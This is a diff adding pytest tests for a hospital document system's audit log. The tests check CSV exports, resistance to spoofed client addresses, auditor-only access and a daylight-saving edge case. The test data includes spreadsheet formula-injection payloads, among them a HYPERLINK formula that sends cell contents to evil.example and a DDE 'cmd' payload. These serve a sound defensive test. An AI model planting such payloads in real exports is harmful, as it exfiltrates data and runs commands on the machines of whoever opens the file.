@@ -1,0 +1,187 @@
+"""A hospital auditor's review: "who downloaded what". Every way to a file's content
+leaves an event the console shows in words (the file's name, who, from where); the
+exports open as written; the log cannot be rewritten without it showing.
+
+People: Alice Martin (owner of an echo), Tom (a teammate), Audrey (the auditor), Sam (a
+site administrator without the auditor role).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+from typing import Any
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from accounts import tokens
+from accounts.models import User
+from audit import services as audit
+from audit.actions import Action
+from audit.models import AuditEvent, Outcome
+from files import services
+from files.models import File
+from tests.files_helpers import Backend, content_of, root_of, version_store
+from tests.helpers import client_signed_in
+
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("rate_limit_cache")]
+
+
+@pytest.fixture(autouse=True)
+def audit_folders(settings: Any, tmp_path: Path) -> None:
+    settings.AUDIT_CHECKPOINT_DIR = tmp_path / "checkpoints"
+    settings.AUDIT_SIGNING_KEY_FILE = tmp_path / "secrets" / "audit_signing_key.pem"
+    settings.AUDIT_CHECKPOINT_S3_BUCKET = ""
+
+
+def echo_in_cardiology(owner: User, name: str = "Échographie Dupont.pdf") -> File:
+    cardiology = services.folder_create(actor=owner, parent=root_of(owner), name="Cardiologie")
+    return version_store(actor=owner, folder=cardiology, name=name, content=content_of(5000)).file
+
+
+def streamed(response: Any) -> bytes:
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
+# --- Exports open as written ----------------------------------------------------------
+
+
+def test_the_csv_export_opens_in_a_spreadsheet_with_its_french_accents(
+    auditor: User, owner: User, folder_backend: Backend
+) -> None:
+    """Excel reads a CSV without a byte order mark as the Windows code page: "Échographie"
+    became "Ã‰chographie" for the auditor double-clicking the export."""
+    echo = echo_in_cardiology(owner)
+    client_signed_in(owner).get(reverse("files:download", args=[echo.pk])).getvalue()
+    export = streamed(
+        client_signed_in(auditor).get("/audit/export.csv", {"item": f"file:{echo.pk}"})
+    )
+    assert export.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.DictReader(io.StringIO(export.decode("utf-8-sig"))))
+    assert rows[0]["sequence"]
+    assert any("Échographie Dupont.pdf" in row["details"] for row in rows)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
+        "+33 cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_a_formula_in_any_exported_cell_stays_text(auditor: User, name: str) -> None:
+    audit.record(
+        action=Action.ACCOUNTS_LOGIN,
+        actor_label=name,
+        outcome=Outcome.DENIED,
+        details={"name": name, "note": 'a, b "quoted"\nnext line'},
+    )
+    audit.record(action=Action.ACCOUNTS_LOGIN, actor_label="x", outcome=Outcome.DENIED)
+    export = streamed(
+        client_signed_in(auditor).get("/audit/export.csv", {"action": Action.ACCOUNTS_LOGIN})
+    ).decode("utf-8-sig")
+    rows = [row for row in csv.DictReader(io.StringIO(export)) if row["actor_id"] == ""]
+    assert len(rows) == 2  # a comma, a quote or a newline stays in its field
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+
+
+# --- Who: the address is the client's, not what it claims -----------------------------
+
+
+def test_a_client_cannot_write_the_address_it_likes_into_the_log(
+    owner: User, settings: Any, folder_backend: Backend
+) -> None:
+    settings.TRUSTED_PROXY_COUNT = 0
+    echo = echo_in_cardiology(owner)
+    client = client_signed_in(owner)
+    client.get(
+        reverse("files:download", args=[echo.pk]),
+        HTTP_X_FORWARDED_FOR="6.6.6.6",
+        HTTP_X_REAL_IP="6.6.6.6",
+        REMOTE_ADDR="10.1.2.3",
+    ).getvalue()
+    download = AuditEvent.objects.filter(action=Action.FILES_VERSION_DOWNLOAD).get()
+    assert download.ip_address == "10.1.2.3"
+
+
+def test_behind_one_proxy_only_its_own_entry_is_trusted(
+    owner: User, settings: Any, folder_backend: Backend
+) -> None:
+    settings.TRUSTED_PROXY_COUNT = 1
+    echo = echo_in_cardiology(owner)
+    client_signed_in(owner).get(
+        reverse("files:download", args=[echo.pk]),
+        HTTP_X_FORWARDED_FOR="6.6.6.6, 192.0.2.7",
+        REMOTE_ADDR="10.0.0.1",
+    ).getvalue()
+    download = AuditEvent.objects.filter(action=Action.FILES_VERSION_DOWNLOAD).get()
+    assert download.ip_address == "192.0.2.7"
+
+
+# --- Every way in shows up in the file's history, by name ------------------------------
+
+
+def file_history(auditor: User, file: File) -> tuple[str, list[Any]]:
+    response = client_signed_in(auditor).get("/audit/file/", {"item": f"file:{file.pk}"})
+    assert response.status_code == 200
+    return response.content.decode(), response.context["rows"]
+
+
+def test_an_api_token_download_names_the_file_and_the_person(
+    auditor: User, owner: User, folder_backend: Backend
+) -> None:
+    echo = echo_in_cardiology(owner)
+    _token, plaintext = tokens.token_create(
+        actor=owner, name="Lab export", scopes=["read"], expires_in_days=30
+    )
+    api = Client(HTTP_AUTHORIZATION=f"Bearer {plaintext}")
+    assert api.get(f"/api/v1/files/{echo.pk}/content/").status_code == 200
+    _page, rows = file_history(auditor, echo)
+    downloads = [row for row in rows if row.event.action == Action.FILES_VERSION_DOWNLOAD]
+    assert [(row.who, row.what, row.path_then) for row in downloads] == [
+        ("Alice Martin", "Échographie Dupont.pdf", "/Cardiologie/Échographie Dupont.pdf")
+    ]
+
+
+def test_a_renamed_file_keeps_its_name_then_in_old_events(
+    auditor: User, owner: User, folder_backend: Backend
+) -> None:
+    echo = echo_in_cardiology(owner)
+    client_signed_in(owner).get(reverse("files:download", args=[echo.pk])).getvalue()
+    services.file_rename(actor=owner, file=echo, name="Renommé.pdf")
+    page, rows = file_history(auditor, echo)
+    downloads = [row for row in rows if row.event.action == Action.FILES_VERSION_DOWNLOAD]
+    assert downloads[0].what == "Échographie Dupont.pdf"
+    assert "/Cardiologie/Échographie Dupont.pdf" in page
+
+
+# --- Who may look --------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("path", ["/audit/export.csv", "/audit/export.jsonl", "/audit/file/"])
+def test_a_site_admin_without_the_role_cannot_export_and_is_recorded(
+    site_admin: User, path: str
+) -> None:
+    response = client_signed_in(site_admin).get(path)
+    assert response.status_code == 403
+    refused = AuditEvent.objects.filter(
+        action=Action.AUDIT_CONSOLE_ACCESS, outcome=Outcome.DENIED, actor_id=str(site_admin.pk)
+    )
+    assert refused.count() == 1
+
+
+def test_an_impossible_time_at_the_spring_change_is_a_400_not_a_500(auditor: User) -> None:
+    """02:30 on 29 March 2026 does not exist in Paris (clocks go from 02:00 to 03:00)."""
+    client = client_signed_in(auditor)
+    for path in ("/audit/explore/", "/audit/export.csv", "/audit/person/"):
+        response = client.get(path, {"since": "2026-03-29T02:30", "actor": "alice@example.org"})
+        assert response.status_code == 400, path
